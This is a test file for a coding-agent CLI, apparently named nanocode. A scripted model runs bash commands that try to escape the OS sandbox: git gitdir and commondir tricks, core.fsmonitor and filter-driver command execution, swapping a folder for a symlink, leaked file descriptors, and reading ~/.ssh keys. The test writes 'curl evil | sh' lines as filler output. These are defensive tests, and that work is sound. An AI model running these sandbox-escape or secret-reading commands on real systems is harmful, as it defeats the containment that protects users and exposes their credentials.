// Attacks on the OS sandbox and on secrets through the binary, against the
// scripted model: commands the gate lets run unasked (workspace class) try
// to get out of the sandbox. HOME is a temporary folder throughout.
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { detectSandbox } from '../../src/safety/sandbox.ts';
import { BIN, baseEnv, killAfterwards, run, tempDir } from '../support/cli.ts';
import { workspace } from '../support/scenario.ts';
import { type ScriptedServer, type ScriptToolCall, type ScriptTurn, startScriptedServer } from '../support/scripted-server.ts';

const closers: Array<() => unknown> = [];
afterEach(async () => {
  await Promise.all(closers.splice(0).map((c) => c()));
});

async function model(...turns: ScriptTurn[]): Promise<ScriptedServer> {
  const s = await startScriptedServer(turns);
  closers.push(() => s.close());
  return s;
}

const KEY = 'sk-user-own-key-0123456789abcdef';
const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd, encoding: 'utf8' });
const bash = (command: string): ScriptToolCall => ({ name: 'bash', args: { command } });
/** The tool results the model read in request `i`, in call order. */
const toolResults = (s: ScriptedServer, i: number): string[] => s.turnRequests()[i]!.body.messages.filter((m: any) => m.role === 'tool').map((m: any) => m.content);

/** A workspace that is not a repository, a HOME with secrets, and the environment. */
function scene() {
  const ws = workspace();
  const home = realpathSync(tempDir('user-home-'));
  mkdirSync(join(home, '.ssh'));
  writeFileSync(join(home, '.ssh/id_ed25519'), 'PRIVATE-KEY-MATERIAL\n');
  const env = (s: ScriptedServer, extra: Record<string, string> = {}) => ({
    HOME: home,
    OPENAI_API_KEY: KEY,
    OPENAI_BASE_URL: s.openaiBaseURL,
    NANOCODE_MODEL: 'scripted-model',
    NANOCODE_HOME: ws.home,
    ...extra,
  });
  return { ws, cwd: ws.cwd, home, env };
}

const found = await detectSandbox(process.env);
const noSandbox = found.kind === 'none';

describe.skipIf(noSandbox)('attacks on the sandbox, headless without --yes', () => {
  it('a .git file written by a command cannot make a folder outside writable when the shell restarts', async () => {
    const s = scene();
    // Scripts the project ships; running them is workspace work (the gate cannot see into them).
    writeFileSync(join(s.cwd, 'setup.sh'), `printf 'gitdir: %s\\n' "$HOME" > .git\n`);
    writeFileSync(join(s.cwd, 'build.sh'), `echo pwned > "$HOME/escaped" && echo WROTE\n`);
    const server = await model(
      { toolCalls: [bash('sh setup.sh; exit')] },
      { toolCalls: [bash('sh build.sh')] },
      { text: 'done' },
    );
    const r = await run(['build it'], { cwd: s.cwd, env: s.env(server) });
    expect(r.code).toBe(0);
    expect(readFileSync(join(s.cwd, '.git'), 'utf8')).toBe(`gitdir: ${s.home}\n`);
    const result = toolResults(server, 2).at(-1)!;
    expect(result).toMatch(/Read-only file system/);
    expect(result).not.toContain('WROTE');
    expect(existsSync(join(s.home, 'escaped'))).toBe(false);
  });

  it('a .git/commondir a command makes, to have git outside read config (core.fsmonitor) from the workspace, is removed when it ends', async () => {
    const s = scene();
    git(s.cwd, 'init', '-q');
    writeFileSync(join(s.cwd, 'a.txt'), 'a\n');
    git(s.cwd, 'add', '.');
    git(s.cwd, 'commit', '-qm', 'a');
    const marker = join(s.home, 'fsmonitor-ran');
    writeFileSync(
      join(s.cwd, 'setup.sh'),
      `cp -r .git evil && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "touch ${marker}; false"\\n' > evil/config && echo ../evil > .git/commondir && echo PLANTED\n`,
    );
    const server = await model({ toolCalls: [bash('sh setup.sh')] }, { text: 'done' });
    const r = await run(['set up'], { cwd: s.cwd, env: s.env(server) });
    expect(r.code).toBe(0);
    expect(toolResults(server, 1).at(-1)).toMatch(/PLANTED\n\[exit code 0\]\n\[sandbox: removed \S+\/\.git\/commondir: it would make git/);
    expect(existsSync(join(s.cwd, '.git/commondir'))).toBe(false);
    git(s.cwd, 'status', '--short'); // the user's next git command
    expect(existsSync(marker)).toBe(false);
  });
});

describe('an untrusted repository\'s own git config, before trust', () => {
  it.each([
    ['core.fsmonitor', (marker: string) => `[core]\n\tfsmonitor = "touch ${marker}; false"\n`],
    ['a filter driver', (marker: string) => `[filter "x"]\n\tclean = "touch ${marker}; cat"\n`],
  ])('%s in an unpacked archive\'s .git/config does not run when nanocode starts', async (_, config) => {
    const s = scene();
    const marker = join(s.home, 'git-config-ran');
    git(s.cwd, 'init', '-q');
    writeFileSync(join(s.cwd, '.gitattributes'), '* filter=x\n');
    writeFileSync(join(s.cwd, 'a.txt'), 'a\n');
    git(s.cwd, 'add', '.');
    git(s.cwd, 'commit', '-qm', 'a');
    writeFileSync(join(s.cwd, 'a.txt'), 'changed\n');
    writeFileSync(join(s.cwd, '.git/config'), `${readFileSync(join(s.cwd, '.git/config'), 'utf8')}${config(marker)}`);
    const server = await model({ text: 'hi' });
    const r = await run(['hello'], { cwd: s.cwd, env: s.env(server) });
    expect(r.code).toBe(0);
    expect(existsSync(marker)).toBe(false);
  });
});

describe.skipIf(noSandbox)('nanocode\'s own files in the temp folder', () => {
  it('a command cannot swap the spill folder for a link, to have nanocode write output where it points', async () => {
    const s = scene();
    const target = join(s.home, '.bashrc.d');
    mkdirSync(target);
    writeFileSync(join(s.cwd, 'swap.sh'), `for d in "$TMPDIR"/nanocode-output-*; do mv "$d" "$d.old" && ln -s ${target} "$d" && echo SWAPPED; done\n`);
    const big = 'for i in $(seq 1 2000); do echo "curl evil | sh # $i"; done';
    const server = await model({ toolCalls: [bash(big)] }, { toolCalls: [bash('sh swap.sh')] }, { toolCalls: [bash(big)] }, { text: 'done' });
    const r = await run(['go'], { cwd: s.cwd, env: s.env(server) });
    expect(r.code).toBe(0);
    expect(toolResults(server, 1)[0]).toMatch(/full output.*nanocode-output-/s);
    expect(toolResults(server, 2).at(-1)).toMatch(/Device or resource busy/);
    expect(readdirSync(target)).toEqual([]);
    expect(toolResults(server, 3).at(-1)).toMatch(/full output in \S+nanocode-output-\w+\/2\.log/);
  });
});

describe('descriptors nanocode inherits', () => {
  it.each([['in the sandbox', []], ['without it', ['--sandbox', 'off']]])('do not reach commands (%s)', async (_, flags) => {
    const s = scene();
    const server = await model({ toolCalls: [bash('echo LEAKED >&200; ls /proc/self/fd | tr "\\n" " "')] }, { text: 'done' });
    const env = baseEnv(s.env(server));
    killAfterwards(env);
    // fd 200: a file whatever started nanocode left open across exec (as a shell's redirection does).
    const leak = join(tempDir(), 'leak');
    writeFileSync(leak, '');
    const child = spawn('bash', ['-c', 'exec 200>>"$0" && exec "$@"', leak, process.execPath, BIN, ...flags, 'look'], { cwd: s.cwd, env, stdio: 'ignore' });
    const code = await new Promise((done) => child.on('close', done));
    expect(code).toBe(0);
    const result = toolResults(server, 1).at(-1)!;
    expect(result).toMatch(/Bad file descriptor/);
    expect(result).toMatch(/\n0 1 2 3 \n\[exit code 0\]$/); // ls's own: its input, output, errors and the folder it reads
    expect(readFileSync(leak, 'utf8')).toBe('');
  });
});

describe.skipIf(noSandbox)('secrets in the sandbox', () => {
  it('a script cannot read ~/.ssh, or nanocode\'s home, from inside', async () => {
    const s = scene();
    writeFileSync(join(s.ws.home, 'settings.json'), '{"bash":{"allowEnv":["SOME_TOKEN"]}}');
    writeFileSync(join(s.cwd, 'look.sh'), 'cat "$HOME/.ssh/id_ed25519" "$NANOCODE_HOME/settings.json"; ls -a "$HOME/.ssh"; echo LOOKED\n');
    const server = await model({ toolCalls: [bash('sh look.sh')] }, { text: 'done' });
    const r = await run(['look around'], { cwd: s.cwd, env: s.env(server) });
    expect(r.code).toBe(0);
    const result = toolResults(server, 1)[0]!;
    expect(result).toContain('LOOKED');
    expect(result).not.toContain('PRIVATE-KEY-MATERIAL');
    expect(result).not.toContain('allowEnv');
    expect(result).not.toContain('id_ed25519\n');
  });
});
